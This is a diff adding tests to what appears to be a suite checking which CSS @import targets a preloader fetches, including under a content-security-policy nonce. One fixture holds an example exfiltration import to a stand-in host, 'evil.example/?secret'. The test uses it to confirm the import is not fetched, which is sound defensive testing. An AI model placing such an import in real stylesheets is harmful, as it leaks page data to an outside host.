@@ -63,6 +63,21 @@ describe("what is pushed since it is imported", () => {
     expect(await askedFor(html, { "/a.js": ['import "./b.js";@import "c.css";'] }, circumstances)).toEqual([]);
   });
 
+  it("does not have the nonce of the style sheet that imports it", async () => {
+    const html = "<link rel=stylesheet nonce=n href=https://cdn.example/a.css>";
+    const headers = [["content-security-policy", "style-src 'nonce-n'"]] as const;
+    const texts = { "https://cdn.example/a.css": ['@import "https://evil.example/?secret";'] };
+    expect(await askedFor(html, texts, { ...CSS, headers })).toEqual([]);
+  });
+
+  it("is looked for at the beginning, and in a few chunks", async () => {
+    const html = "<link rel=stylesheet href=/a.css>";
+    const late = { "/a.css": [" ".repeat(9_000), '@import "b.css";'] };
+    expect(await askedFor(html, late, CSS)).toEqual([]);
+    const drops = { "/a.css": [...Array.from({ length: 20 }, () => " "), '@import "b.css";'] };
+    expect(await askedFor(html, drops, CSS)).toEqual([]);
+  });
+
   it("stops with the document, and at its bounds", async () => {
     const chain = (url: string) => [`@import "${Number(/\d+/.exec(url)?.[0]) + 1}.css";`];
     const rig = load({ ...CSS, texts: chain, request: { pushes: 20 } });
